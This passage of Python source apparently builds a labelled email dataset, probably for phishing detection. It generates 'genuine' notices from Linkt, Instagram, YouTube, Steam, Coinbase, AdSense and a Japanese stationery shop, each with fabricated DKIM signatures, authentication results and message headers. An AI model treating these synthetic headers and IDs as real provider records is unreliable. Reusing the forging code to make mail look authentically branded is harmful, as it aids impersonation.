        f"Reply-To: \"Australia Post\" <reply-{hx(name, 'rt', 16)}-{job}_HTML-{num(name, 'bx2', 100000000, 999999999)}-{num(name, 'bx3', 1000000, 9999999)}-{num(name, 'bx4', 1, 9)}@{dom}>",
        f"List-ID: <{num(name, 'lid', 10000000, 99999999)}.xt.local>",
        "X-CSA-Complaints: csa-complaints@eco.de",
        f"x-job: {num(name, 'bx3', 1000000, 9999999)}_{job}",
        f"Message-ID: <{guid(name, 'mid')}@atl1s07mta{num(name, 'mta', 1, 9)}.xt.local>",
        "X-SFMC-Stack: 7",
        f"Feedback-ID: {num(name, 'bx3', 1000000, 9999999)}:{job}:{hx(name, 'fb', 8)}:sfmktgcld",
    ]
    m.body = Multi("alternative", f"{guid(name, 'bnd')}", [plain(txt, "utf-8", "7bit"), html(htm, "utf-8", "quoted-printable")])
    emit(m)


def l_linkt_statement() -> None:
    name = "b15-bulk-linkt-statement-ready"
    t = T("2025-01-31 20:05:44")
    sent = t - timedelta(seconds=1)
    dom = "linkt.com.au"
    m = Mail(name, "bulk",
             "Genuine Linkt monthly statement notice from noreply@linkt.com.au via Amazon SES Sydney (DKIM and p=reject DMARC aligned), no amount demanded, links only to linkt.com.au with utm parameters",
             LIAM, "outlook", t, ("e242-6.smtp-out.ap-southeast-2.amazonses.com", "e242-6.smtp-out.ap-southeast-2.amazonses.com", "23.251.242.6"),
             f"010801951{hx(name, 'rp', 7)}-{guid(name, 'rp2')}-000000@ap-southeast-2.amazonses.com", "pass",
             [("pass", dom, tok(name, 'sessel', 32)), ("pass", "amazonses.com", "j5jnxeqbzlrvmoyhgmhgs6dyzv3kbrpa")],
             ("pass", "REJECT"), dom, country="AU")
    m.sender = ses_sender(m, dom, sent, "ap-southeast-2")
    acct = digits(name, "acct", 8)
    u = lambda p, c: f"https://www.linkt.com.au{p}?utm_source=linkt&utm_medium=email&utm_campaign=monthly_statement&utm_content={c}"
    htm = f"""<!DOCTYPE html><html><head><meta charset="utf-8"></head>
<body style="margin:0;background:#f2f2f7;font-family:Arial,sans-serif;">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center">
<table width="600" cellpadding="0" cellspacing="0" style="background:#fff;">
<tr><td style="background:#5b2d90;padding:18px 24px;"><img src="https://www.linkt.com.au/content/dam/linkt/email/linkt-logo-white.png" width="90" alt="Linkt"></td></tr>
<tr><td style="padding:26px 24px;font-size:15px;color:#1d1d1f;line-height:1.6;">
<p>Hi Liam,</p>
<p>Your Linkt statement for <b>January 2025</b> is now available.</p>
<table cellpadding="4" style="font-size:14px;"><tr><td style="color:#666;">Account number</td><td>{acct}</td></tr>
<tr><td style="color:#666;">Trips this period</td><td>18</td></tr>
<tr><td style="color:#666;">Closing balance</td><td>$42.15 (automatic top-up active)</td></tr></table>
<p>There is nothing you need to do. Your account will top up automatically from your saved payment method when required.</p>
<p style="margin:22px 0;"><a href="{u('/login', 'view_statement')}" style="background:#5b2d90;color:#fff;padding:12px 26px;border-radius:22px;text-decoration:none;">View statement</a></p>
</td></tr>
<tr><td style="padding:16px 24px;font-size:11px;color:#6e6e73;background:#fafafa;">Linkt will never ask you to pay a toll via a link in an SMS or email. <a href="{u('/help/scams', 'scam_info')}" style="color:#6e6e73;">Learn about scams</a><br>
<a href="{u('/my-account/communication-preferences', 'prefs')}" style="color:#6e6e73;">Communication preferences</a> | Linkt is a Transurban brand. Transurban Limited ABN 96 098 143 410.</td></tr>
</table></td></tr></table></body></html>
"""
    m.headers = [
        "From: Linkt <noreply@linkt.com.au>",
        f"To: {LIAM}",
        "Subject: Your Linkt statement is ready",
        "MIME-Version: 1.0",
        f"Message-ID: <010801951{hx(name, 'rp', 7)}-{guid(name, 'rp2')}-000000@ap-southeast-2.amazonses.com>",
        f"Date: {fmt(sent, 0)}",
    ]
    m.body = html(htm, "UTF-8", "quoted-printable")
    emit(m)


def l_instagram_login() -> None:
    name = "b15-bulk-instagram-new-login-alert"
    t = T("2024-02-21 05:16:33")
    sent = t - timedelta(seconds=2)
    env = f"security+z{tok(name, 'rp', 10)}@mail.instagram.com"
    uid = digits(name, "uid", 11)
    m = Mail(name, "bulk",
             "Genuine Instagram 'we noticed a new login' alert from security@mail.instagram.com via Meta's mail servers (DKIM, SPF, p=reject DMARC pass) after the creator logged in on a trip, links to instagram.com account pages only",
             SALT, "m365", t, ("66-220-144-153.mail-mail.facebook.com", "66-220-144-153.mail-mail.facebook.com", "66.220.144.153"),
             env, "pass", [("pass", "mail.instagram.com", "s1024-2013-q3")], ("pass", "REJECT"), "mail.instagram.com", country="US")
    m.sender = [dkim_sig(m, "mail.instagram.com", "s1024-2013-q3", "Date:To:Subject:From:MIME-Version:Content-Type", sent, bits=1024, c="simple/relaxed"),
                f"Received: from instagram.com ({b64(name, 'igrx', 40)}\n 2a03:2880:{hv(name, 'fv6', 4)}:{hv(name, 'fv62', 4)}:face:b00c:0:{num(name, 'fv63', 10, 99)})\n by instagram.com with Thrift id {hx(name, 'thr', 32)}-{hx(name, 'thr2', 10)};\n {fmt(sent, pacific(sent)[0])}"]
    tokn = tok(name, "dis", 20, ALNUM_MIX)
    htm = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8" /></head>
<body style="margin:0;padding:0;" dir="ltr" bgcolor="#ffffff">
<table border="0" cellspacing="0" cellpadding="0" align="center" style="border-collapse:collapse;max-width:500px;font-family:Helvetica Neue,Helvetica,Lucida Grande,tahoma,verdana,arial,sans-serif;">
<tr><td style="padding:20px 0;"><img src="https://static.cdninstagram.com/rsrc.php/v3/yt/r/30PrGfR3xhB.png" width="105" alt="Instagram"></td></tr>
<tr><td style="font-size:16px;color:#262626;line-height:22px;">Hi saltwaterlens,</td></tr>
<tr><td style="font-size:16px;color:#262626;line-height:22px;padding-top:10px;">We noticed a new login to your account from a device you don't usually use.</td></tr>
<tr><td style="padding:16px 0;font-size:14px;color:#8e8e8e;line-height:20px;">iPhone 15 Pro &middot; Instagram for iOS<br>Denpasar, Indonesia<br>February 21 at 1:14 PM (GMT+8)</td></tr>
<tr><td style="font-size:16px;color:#262626;line-height:22px;">If this was you, you can ignore this message.</td></tr>
<tr><td style="font-size:16px;color:#262626;line-height:22px;padding-top:10px;">If this wasn't you, <a href="https://instagram.com/accounts/disavow/{uid}/{tokn}/?utm_medium=email&amp;utm_source=new_login" style="color:#0095f6;text-decoration:none;">secure your account</a> and review your login activity.</td></tr>
<tr><td style="padding:24px 0;font-size:12px;color:#8e8e8e;line-height:16px;">&copy; Instagram. Meta Platforms, Inc., 1601 Willow Road, Menlo Park, CA 94025<br>This message was sent to {SALT} and intended for saltwaterlens. Not your account? <a href="https://instagram.com/accounts/remove/revoke_wrong_email/?uidb36={tok(name, 'b36', 8)}&amp;token={tok(name, 'rwt', 20, ALNUM_MIX)}" style="color:#8e8e8e;">Remove your email</a> from this account.</td></tr>
</table></body></html>
"""
    txt = f"""Hi saltwaterlens,

We noticed a new login to your account from a device you don't usually use.

iPhone 15 Pro · Instagram for iOS
Denpasar, Indonesia
February 21 at 1:14 PM (GMT+8)

If this was you, you can ignore this message.
If this wasn't you, secure your account: https://instagram.com/accounts/disavow/{uid}/{tokn}/

© Instagram. Meta Platforms, Inc., 1601 Willow Road, Menlo Park, CA 94025
"""
    m.headers = [
        f"Date: {fmt(sent, pacific(sent)[0])}",
        f"To: {SALT}",
        "Subject: New login to Instagram from Instagram on iPhone",
        "X-Priority: 3",
        "X-Mailer: ZuckMail [version 1.00]",
        "From: Instagram <security@mail.instagram.com>",
        f"Message-ID: <{hx(name, 'igmsg', 32)}@mail.instagram.com>",
        f"Errors-To: {env}",
        "X-FACEBOOK-PRIORITY: 0",
        "X-Auto-Response-Suppress: All",
        f"Feedback-ID: 0:new_login:Instagram",
        "MIME-Version: 1.0",
    ]
    m.body = alt(name, plain(txt, "UTF-8", "quoted-printable"), html(htm, "UTF-8", "quoted-printable"), boundary=f"b1_{hx(name, 'bnd', 32)}")
    emit(m)


def l_youtube_claim() -> None:
    name = "b15-bulk-youtube-copyright-claim-notice"
    t = T("2024-06-05 07:42:19")
    sent = t - timedelta(seconds=1)
    vid = tok(name, "vid", 11, ALNUM_MIX + "-_")
    m = Mail(name, "bulk",
             "Genuine YouTube Content ID claim notice from noreply@youtube.com over Google's internal transport (youtube.com DKIM, DMARC pass): the same 'copyright' theme as the lures, but no deadline or login demand, links only to studio.youtube.com and support.google.com",
             PIXEL, "gmail", t, ("mail-sor-f73.google.com", "mail-sor-f73.google.com", "209.85.220.73"),
             f"3{b64(name, 'rp', 30, True)}@scoutcamp.bounces.google.com", "pass", [("pass", "youtube.com", "20230601")],
             ("pass", "REJECT"), "youtube.com", gts=True)
    m.sender = [dkim_sig(m, "youtube.com", "20230601", "to:from:subject:message-id:feedback-id:date:mime-version:from:to:cc:subject:date:message-id:reply-to", sent, expire=604800),
                f"X-Google-Smtp-Source: AGHT+I{b64(name, 'gss', 80)}",
                f"X-Received: by 2002:a05:6902:{hx(name, 'x1', 4)}:b0:{hx(name, 'x2', 3)}:{hx(name, 'x3', 4)}:{hx(name, 'x4', 4)} with SMTP id\n"
                f"        {tok(name, 'x5', 2)}{digits(name, 'x6', 2)}-{hx(name, 'x7', 10)}mr{digits(name, 'x8', 7)}.{num(name, 'x9', 10, 99)}.{digits(name, 'x10', 13)};\n"
                f"        {fmt(sent, pacific(sent)[0], pacific(sent)[1])}"]
    studio = f"https://studio.youtube.com/video/{vid}/copyright?utm_campaign=copyright_claim&utm_medium=email&utm_source=notification"
    htm = f"""<!DOCTYPE html><html><head><meta charset="UTF-8"></head>
<body style="margin:0;background:#f9f9f9;font-family:Roboto,Arial,sans-serif;">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:24px 0;">
<table width="560" cellpadding="0" cellspacing="0" style="background:#fff;border:1px solid #e5e5e5;">
<tr><td style="padding:20px 28px;"><img src="https://www.gstatic.com/youtube/img/branding/youtubelogo/1x/youtubelogo_60.png" width="90" alt="YouTube"></td></tr>
<tr><td style="padding:0 28px 24px;font-size:14px;color:#0f0f0f;line-height:1.6;">
<p style="font-size:20px;">Copyright claim on your video</p>
<p>Hi Pixel Dumpling,</p>
<p>Copyrighted content was found in your video <b>"ROG Ally X review - 3 weeks later"</b>. The copyright owner is allowing the content to be used on YouTube, but ads may run on your video and the owner will receive the revenue.</p>
<table cellpadding="4" style="font-size:13px;color:#606060;"><tr><td>Content used</td><td>"Neon Avenue" (sound recording)</td></tr><tr><td>Claimed by</td><td>Epidemic Sound</td></tr><tr><td>Impact</td><td>Monetised by copyright owner</td></tr></table>
<p>Your channel isn't affected and no strike was applied. You can review the claim, trim out the music, or dispute the claim if you have the rights to use it.</p>
<p style="margin:22px 0;"><a href="{studio}" style="background:#065fd4;color:#fff;padding:10px 18px;border-radius:18px;text-decoration:none;">See options in YouTube Studio</a></p>
<p style="font-size:12px;"><a href="https://support.google.com/youtube/answer/6013276?hl=en" style="color:#065fd4;">Learn more about Content ID claims</a></p>
</td></tr>
<tr><td style="padding:16px 28px;font-size:11px;color:#909090;border-top:1px solid #eee;">You received this email to update you about important changes to your YouTube account.<br>&copy; 2024 Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043</td></tr>
</table></td></tr></table></body></html>
"""
    txt = f"""Copyright claim on your video

Hi Pixel Dumpling,

Copyrighted content was found in your video "ROG Ally X review - 3 weeks later". The copyright owner is allowing the content to be used on YouTube, but ads may run on your video and the owner will receive the revenue.

Content used: "Neon Avenue" (sound recording)
Claimed by: Epidemic Sound
Impact: Monetised by copyright owner

See options in YouTube Studio: {studio}

(c) 2024 Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043
"""
    m.headers = [
        "MIME-Version: 1.0",
        f"Date: {fmt(sent, 0)}",
        f"Feedback-ID: P-{num(name, 'fb', 10, 99)}-0:C{digits(name, 'fb2', 8)}:M110136315-en:gamma",
        f"X-Notifications: {hx(name, 'xn', 16)}",
        f"X-Notifications-Bounce-Info: A{b64(name, 'xnb', 70, True)}",
        f"Message-ID: <{b64(name, 'mid', 22, True)}-{b64(name, 'mid2', 22, True)}@google.com>",
        "Subject: Copyright claim on your video",
        "From: YouTube <noreply@youtube.com>",
        f"To: {PIXEL}",
    ]
    m.body = alt(name, plain(txt, "UTF-8", "quoted-printable"), html(htm, "UTF-8", "quoted-printable"), boundary=f"000000000000{hx(name, 'bnd', 16)}")
    emit(m)


def l_steam_receipt() -> None:
    name = "b15-bulk-steam-purchase-receipt"
    t = T("2024-06-28 03:27:40")
    sent = t - timedelta(seconds=1)
    m = Mail(name, "bulk",
             "Genuine Steam purchase receipt during the 2024 Summer Sale from noreply@steampowered.com on Valve's own mail servers (DKIM and DMARC pass), item list and HK$ totals, links to store.steampowered.com and help.steampowered.com",
             KELVIN, "gmail", t, (f"smtp-0{num(name, 's', 1, 6)}-tuk1.steampowered.com", f"smtp-0{num(name, 's', 1, 6)}-tuk1.steampowered.com", f"208.64.202.{num(name, 'ip', 30, 60)}"),
             "noreply@steampowered.com", "pass", [("pass", "steampowered.com", "smtp")], ("pass", "REJECT"), "steampowered.com", country="US")
    m.sender = [dkim_sig(m, "steampowered.com", "smtp", "Date:To:From:Subject:Message-ID:MIME-Version:Content-Type", sent)]
    order = digits(name, "order", 19)
    htm = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="margin:0;background:#23262e;font-family:Arial,Helvetica,sans-serif;">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:20px 0;">
<table width="580" cellpadding="0" cellspacing="0" style="background:#171a21;color:#c6d4df;font-size:14px;">
<tr><td style="padding:24px 28px;"><a href="https://store.steampowered.com/?utm_source=receipt"><img src="https://store.cloudflare.steamstatic.com/public/shared/images/email/logo_steam.png" width="120" alt="Steam"></a></td></tr>
<tr><td style="padding:0 28px;color:#fff;font-size:20px;">Thank you for your purchase!</td></tr>
<tr><td style="padding:14px 28px;">Hello KelvinCKW,<br><br>Thank you for your recent transaction on Steam.</td></tr>
<tr><td style="padding:0 28px;"><table width="100%" cellpadding="6" cellspacing="0" style="font-size:14px;color:#c6d4df;">
<tr><td>Balatro</td><td style="text-align:right;">HK$ 81.00</td></tr>
<tr><td>Hades II (Early Access)</td><td style="text-align:right;">HK$ 148.00</td></tr>
<tr><td style="border-top:1px solid #3d4450;">Total</td><td style="text-align:right;border-top:1px solid #3d4450;color:#fff;">HK$ 229.00</td></tr>
<tr><td>Payment method</td><td style="text-align:right;">Visa ending 4417</td></tr>
<tr><td>Order number</td><td style="text-align:right;">{order}</td></tr></table></td></tr>
<tr><td style="padding:18px 28px;">The items have been added to your library. <a href="https://store.steampowered.com/account/history/" style="color:#66c0f4;">View your purchase history</a>.</td></tr>
<tr><td style="padding:14px 28px 24px;font-size:11px;color:#8f98a0;">If you did not make this purchase, please visit <a href="https://help.steampowered.com/" style="color:#8f98a0;">Steam Support</a>.<br>
&copy; Valve Corporation. PO Box 1688 Bellevue, WA 98009. All rights reserved.</td></tr>
</table></td></tr></table></body></html>
"""
    m.headers = [
        f"Date: {fmt(sent, pacific(sent)[0])}",
        f"To: {KELVIN}",
        "From: Steam Store <noreply@steampowered.com>",
        "Subject: Thank you for your Steam purchase!",
        f"Message-ID: <{digits(name, 'mid', 10)}.{digits(name, 'mid2', 5)}@steampowered.com>",
        "MIME-Version: 1.0",
    ]
    m.body = alt(name, plain(f"Hello KelvinCKW,\n\nThank you for your recent transaction on Steam.\n\nBalatro  HK$ 81.00\nHades II (Early Access)  HK$ 148.00\nTotal  HK$ 229.00\nOrder number: {order}\n\nhttps://store.steampowered.com/account/history/\n", "utf-8", "7bit"),
                 html(htm, "utf-8", "quoted-printable"))
    emit(m)


def l_coinbase_device() -> None:
    name = "b15-bulk-coinbase-new-device-alert"
    t = T("2025-02-17 12:08:54")
    sent = t - timedelta(seconds=1)
    dom = "coinbase.com"
    em = f"em{digits(name, 'em', 4)}.info.coinbase.com"
    uid = digits(name, "uid", 8)
    m = Mail(name, "bulk",
             "Genuine Coinbase 'new device signed in' security alert from no-reply@coinbase.com (SendGrid, coinbase.com DKIM, p=reject DMARC pass) after the user logged in on a new laptop; tells the user to lock the account in the app, links to coinbase.com and help.coinbase.com",
             MARCUS, "gmail", t, (f"o{num(name, 'o', 1, 9)}.ptr{digits(name, 'ptr', 4)}.{em}", f"o{num(name, 'o', 1, 9)}.ptr{digits(name, 'ptr', 4)}.{em}", "149.72.211.18"),
             f"bounces+{uid}-{hx(name, 'b', 4)}-marcuslim.sg=gmail.com@{em}", "pass",
             [("pass", dom, "s1"), ("pass", "sendgrid.info", "smtpapi")], ("pass", "REJECT"), dom, country="US")
    m.sender = sendgrid_sender(m, dom, sent) + [dkim_sig(m, "sendgrid.info", "smtpapi", "from:mime-version:subject:content-type:to:cc:content-type:from:subject:to", sent, bits=1024)]
    htm = """<!DOCTYPE html><html><head><meta charset="utf-8"></head>
<body style="margin:0;background:#f4f5f7;font-family:'Coinbase Sans',Arial,sans-serif;">
<div style="max-width:560px;margin:0 auto;background:#fff;">
<div style="padding:24px 28px;"><img src="https://static-assets.coinbase.com/email/coinbase-logo.png" width="110" alt="Coinbase"></div>
<div style="padding:0 28px 28px;font-size:15px;color:#0a0b0d;line-height:1.6;">
<p style="font-size:22px;font-weight:bold;">New device signed in</p>
<p>We noticed a new sign-in to your Coinbase account.</p>
<table cellpadding="4" style="font-size:14px;color:#5b616e;"><tr><td>Device</td><td>Chrome on macOS</td></tr><tr><td>Location</td><td>Singapore, SG</td></tr><tr><td>Time</td><td>Feb 17, 2025, 8:08 PM SGT</td></tr></table>
<p>If this was you, you don't need to do anything.</p>
<p>If you don't recognise this activity, open the Coinbase app or go to coinbase.com and lock your account from Settings &gt; Security, then contact us through the <a href="https://help.coinbase.com/en/contact-us" style="color:#0052ff;">Help Center</a>.</p>
<p style="font-size:13px;color:#5b616e;">Coinbase will never call you or ask you to move funds to a "safe" wallet.</p>
</div>
<div style="padding:16px 28px;font-size:11px;color:#8a919e;background:#fafafa;">This is a mandatory security notification. Coinbase, Inc. 82 Pine Street, Suite 1150, San Francisco, CA 94104</div>
</div></body></html>
"""
    m.headers = [
        "From: Coinbase <no-reply@coinbase.com>",
        "Subject: New device signed in to your Coinbase account",
        f"Date: {fmt(sent, 0)}",
        f"Message-ID: <{b64(name, 'mid', 22, True)}@geopod-ismtpd-{num(name, 'gp', 1, 40)}>",
        f"X-SG-EID: u001.{b64(name, 'sgeid', 200)}",
        f"X-Entity-ID: u001.{b64(name, 'eid', 22, True)}==",
        f"To: {MARCUS}",
        "MIME-Version: 1.0",
    ]
    m.body = alt(name, plain("New device signed in\n\nWe noticed a new sign-in to your Coinbase account.\nDevice: Chrome on macOS\nLocation: Singapore, SG\nTime: Feb 17, 2025, 8:08 PM SGT\n\nIf this was you, you don't need to do anything.\nIf you don't recognise this activity, open the Coinbase app or go to coinbase.com and lock your account from Settings > Security.\n\nCoinbase will never call you or ask you to move funds to a \"safe\" wallet.\n"),
                 html(htm), boundary=hx(name, "bnd", 64))
    emit(m)


def l_jp_newsletter() -> None:
    name = "b15-bulk-bungu-komichi-newsletter"
    t = T("2025-09-05 09:00:41")
    sent = t - timedelta(seconds=3)
    dom = "bungu-komichi.jp"
    em = f"em{digits(name, 'em', 4)}.{dom}"
    uid = digits(name, "uid", 8)
    m = Mail(name, "bulk",
             "Genuine newsletter of a small Japanese stationery shop the recipient subscribed to, sent through SendGrid with its own DKIM/DMARC, more than a dozen SendGrid click-tracking links, open pixel, one-click List-Unsubscribe",
             YUI, "icloud", t, (f"o{num(name, 'o', 1, 9)}.ptr{digits(name, 'ptr', 4)}.{em}", f"o{num(name, 'o', 1, 9)}.ptr{digits(name, 'ptr', 4)}.{em}", "167.89.64.203"),
             f"bounces+{uid}-{hx(name, 'b', 4)}-yui.hasegawa=icloud.com@{em}", "pass",
             [("pass", dom, "s1")], ("pass", "NONE"), dom)
    m.sender = sendgrid_sender(m, dom, sent)

    def ct(i: int) -> str:
        return f"https://u{uid}.ct.sendgrid.net/ls/click?upn=u001.{b64(name, 'upn' + str(i), 110, True)}-2B{b64(name, 'upnb' + str(i), 30, True)}"

    products = [("ミドリ MDノート 文庫 横罫", "1,100"), ("セーラー万年筆 ボトルインク 限定色「秋霖」", "1,980"),
                ("トラベラーズノート 限定セット 2025", "6,930"), ("ハイタイド 真鍮ペーパーナイフ", "1,650")]
    cards = "".join(f"""<td width="50%" style="padding:8px;vertical-align:top;"><a href="{ct(10 + i)}"><img src="https://cdn.{dom}/mail/202509/item{i + 1}.jpg" width="260" alt=""></a><br>
<a href="{ct(10 + i)}" style="color:#3b3b3b;text-decoration:none;font-size:13px;">{n}</a><br><span style="font-size:13px;color:#a0522d;">{p}円（税込）</span></td>""" + ("</tr><tr>" if i == 1 else "") for i, (n, p) in enumerate(products))
    htm = f"""<!DOCTYPE html><html lang="ja"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width"></head>
<body style="margin:0;background:#f6f3ee;">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center">
<table width="560" cellpadding="0" cellspacing="0" style="background:#fffdf8;font-family:'Hiragino Mincho ProN','Yu Mincho',serif;color:#3b3b3b;">
<tr><td style="padding:18px;text-align:center;font-size:12px;color:#999;">メールが正しく表示されない方は<a href="{ct(1)}" style="color:#999;">こちら</a></td></tr>
<tr><td style="text-align:center;padding:10px 0 20px;"><a href="{ct(2)}"><img src="https://cdn.{dom}/mail/logo.png" width="180" alt="文具のこみち"></a></td></tr>
<tr><td><a href="{ct(3)}"><img src="https://cdn.{dom}/mail/202509/main.jpg" width="560" alt="秋の新作ノートと限定インク"></a></td></tr>
<tr><td style="padding:22px 24px;font-size:14px;line-height:2;">長谷川 由衣 様<br><br>いつも文具のこみちをご利用いただき、ありがとうございます。<br>
朝晩に秋の気配を感じるようになりました。今月は、手帳の季節に向けた新作ノートと、毎年ご好評いただいている限定インクのご案内です。</td></tr>
<tr><td style="padding:0 16px;"><table width="100%" cellpadding="0" cellspacing="0"><tr>{cards}</tr></table></td></tr>
<tr><td style="padding:20px 24px;font-size:14px;line-height:2;">■ 9月のワークショップ「はじめてのガラスペン」<br>9月20日（土）福岡天神店にて開催します。<a href="{ct(4)}" style="color:#a0522d;">詳細・お申し込みはこちら</a><br><br>
■ 読みもの「店主の手帳術」第12回を公開しました。<a href="{ct(5)}" style="color:#a0522d;">記事を読む</a></td></tr>
<tr><td style="padding:10px 24px 22px;text-align:center;"><a href="{ct(6)}" style="background:#6b4f3a;color:#fff;padding:12px 36px;text-decoration:none;font-size:14px;">オンラインストアを見る</a></td></tr>
<tr><td style="padding:18px 24px;background:#efe9df;font-size:11px;color:#777;line-height:1.8;">
<a href="{ct(7)}" style="color:#777;">Instagram</a>　<a href="{ct(8)}" style="color:#777;">LINE公式アカウント</a>　<a href="{ct(9)}" style="color:#777;">よくあるご質問</a><br>
本メールは、文具のこみちのメールマガジンにご登録いただいた方にお送りしています。<br>配信停止は<a href="{ct(20)}" style="color:#777;">こちら</a>から。<br>
株式会社こみち商店　〒810-0001 福岡県福岡市中央区天神2-8-41<br>&copy; Bungu no Komichi</td></tr>
</table></td></tr></table>
<img src="https://u{uid}.ct.sendgrid.net/wf/open?upn=u001.{b64(name, 'open', 60, True)}" alt="" width="1" height="1" border="0" style="height:1px !important;width:1px !important;">
</body></html>
"""
    txt = f"""長谷川 由衣 様

いつも文具のこみちをご利用いただき、ありがとうございます。
今月は、手帳の季節に向けた新作ノートと、限定インクのご案内です。

■ ミドリ MDノート 文庫 横罫　1,100円（税込）
{ct(10)}
■ セーラー万年筆 ボトルインク 限定色「秋霖」　1,980円（税込）
{ct(11)}
■ トラベラーズノート 限定セット 2025　6,930円（税込）
{ct(12)}

■ 9月のワークショップ「はじめてのガラスペン」
{ct(4)}

配信停止：{ct(20)}
株式会社こみち商店
"""
    m.headers = [
        f"From: {addr('文具のこみち', 'news@' + dom)}",
        f"Subject: {ew('【文具のこみち】秋の新作ノートと限定インク入荷のお知らせ')}",
        f"List-Unsubscribe: <https://u{uid}.ct.sendgrid.net/lu/unsubscribe?upn=u001.{b64(name, 'lu', 90, True)}>, <mailto:unsubscribe@{dom}?subject=unsubscribe>",
        "List-Unsubscribe-Post: List-Unsubscribe=One-Click",
        f"Date: {fmt(sent, 0)}",
        f"Message-ID: <{b64(name, 'mid', 22, True)}@geopod-ismtpd-{num(name, 'gp', 1, 40)}>",
        f"X-SG-EID: u001.{b64(name, 'sgeid', 200)}",
        f"X-Entity-ID: u001.{b64(name, 'eid', 22, True)}==",
        f"To: {YUI}",
        "MIME-Version: 1.0",
    ]
    m.body = alt(name, plain(txt), html(htm), boundary=hx(name, "bnd", 64))
    emit(m)


def l_adsense_payment() -> None:
    name = "b15-bulk-adsense-payment-issued"
    t = T("2025-03-22 02:11:37")
    sent = t - timedelta(seconds=1)
    m = Mail(name, "bulk",
             "Genuine Google AdSense 'your payment is on its way' notice from payments-noreply@google.com over Google's internal transport (google.com DKIM, p=reject DMARC), amount and payment ID, links only to google.com/adsense and support.google.com",
             PIXEL, "gmail", t, ("mail-sor-f69.google.com", "mail-sor-f69.google.com", "209.85.220.69"),
             f"3{b64(name, 'rp', 30, True)}@scoutcamp.bounces.google.com", "pass", [("pass", "google.com", "20230601")],
             ("pass", "REJECT"), "google.com", gts=True)
    m.sender = [dkim_sig(m, "google.com", "20230601", "to:from:subject:message-id:feedback-id:date:mime-version:from:to:cc:subject:date:message-id:reply-to", sent, expire=604800),
                f"X-Google-Smtp-Source: AGHT+I{b64(name, 'gss', 80)}",
                f"X-Received: by 2002:a05:6214:{hx(name, 'x1', 4)}:b0:{hx(name, 'x2', 3)}:{hx(name, 'x3', 4)}:{hx(name, 'x4', 4)} with SMTP id\n"
                f"        {tok(name, 'x5', 2)}{digits(name, 'x6', 2)}-{hx(name, 'x7', 10)}mr{digits(name, 'x8', 7)}.{num(name, 'x9', 10, 99)}.{digits(name, 'x10', 13)};\n"
                f"        {fmt(sent, pacific(sent)[0], pacific(sent)[1])}"]
    pub = f"pub-{digits(name, 'pub', 16)}"
    link = f"https://www.google.com/adsense/new/u/0/{pub}/payments?utm_source=payment_email&utm_medium=email&utm_campaign=payment_issued"
    htm = f"""<!DOCTYPE html><html><head><meta charset="UTF-8"></head>
<body style="margin:0;background:#f8f9fa;font-family:'Google Sans',Roboto,Arial,sans-serif;">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:24px 0;">
<table width="560" cellpadding="0" cellspacing="0" style="background:#fff;border:1px solid #dadce0;border-radius:8px;">
<tr><td style="padding:24px 32px 0;"><img src="https://www.gstatic.com/adsense/email/adsense_logo_2x.png" width="140" alt="Google AdSense"></td></tr>
<tr><td style="padding:20px 32px;font-size:14px;color:#3c4043;line-height:1.6;">
<p style="font-size:22px;color:#202124;">Your payment is on its way</p>
<p>Hi Pixel Dumpling,</p>
<p>We've issued your AdSense payment. Depending on your bank, it may take a few days to arrive in your account.</p>
<table cellpadding="4" style="font-size:14px;"><tr><td style="color:#5f6368;">Amount</td><td><b>US$1,284.55</b></td></tr>
<tr><td style="color:#5f6368;">Payment method</td><td>Wire transfer to DBS Bank Ltd ••••2218</td></tr>
<tr><td style="color:#5f6368;">Payment ID</td><td>{digits(name, 'pid', 4)}-{digits(name, 'pid2', 4)}-{digits(name, 'pid3', 4)}-{digits(name, 'pid4', 4)}</td></tr>
<tr><td style="color:#5f6368;">Publisher ID</td><td>{pub}</td></tr></table>
<p style="margin:22px 0;"><a href="{link}" style="background:#1a73e8;color:#fff;padding:10px 24px;border-radius:4px;text-decoration:none;">View payment details</a></p>
<p style="font-size:12px;"><a href="https://support.google.com/adsense/answer/1709856?hl=en" style="color:#1a73e8;">Payment hasn't arrived?</a></p>
</td></tr>
<tr><td style="padding:16px 32px;font-size:11px;color:#5f6368;border-top:1px solid #e8eaed;">You have received this mandatory service announcement to update you about important changes to your AdSense account.<br>&copy; 2025 Google LLC 1600 Amphitheatre Parkway, Mountain View, CA 94043</td></tr>
</table></td></tr></table></body></html>
"""
    txt = f"""Your payment is on its way

Hi Pixel Dumpling,

We've issued your AdSense payment. Depending on your bank, it may take a few days to arrive in your account.

Amount: US$1,284.55
Payment method: Wire transfer to DBS Bank Ltd ****2218
Publisher ID: {pub}

View payment details: {link}

(c) 2025 Google LLC 1600 Amphitheatre Parkway, Mountain View, CA 94043
"""
    m.headers = [
        "MIME-Version: 1.0",
        f"Date: {fmt(sent, 0)}",
        f"Feedback-ID: P-{num(name, 'fb', 10, 99)}-0:C{digits(name, 'fb2', 8)}:M110203451-en:gamma",
        f"X-Notifications: {hx(name, 'xn', 16)}",
        f"Message-ID: <{b64(name, 'mid', 22, True)}-{b64(name, 'mid2', 22, True)}@google.com>",
        "Subject: Your AdSense payment is on its way",
        "From: Google AdSense <payments-noreply@google.com>",
        f"To: {PIXEL}",
    ]
    m.body = alt(name, plain(txt, "UTF-8", "quoted-printable"), html(htm, "UTF-8", "quoted-printable"), boundary=f"000000000000{hx(name, 'bnd', 16)}")
    emit(m)


def l_docusign_envelope() -> None:
    name = "b15-bulk-docusign-creator-agreement"
    t = T("2025-05-15 01:26:50")
    sent = t - timedelta(seconds=2)
    env_id = guid(name, "env", True)
    acct = guid(name, "acct")
    m = Mail(name, "bulk",
             "Genuine DocuSign envelope from dse@docusign.net (docusign.net DKIM, p=reject DMARC) sent by the talent agency two days after its enquiry, sender name 'Ruby Chen via Docusign', review link on au.docusign.net with the usual EmailStart parameters",
             JESS, "m365", t, ("mailsea.au.docusign.net", "mailsea.au.docusign.net", "64.207.219.73"),
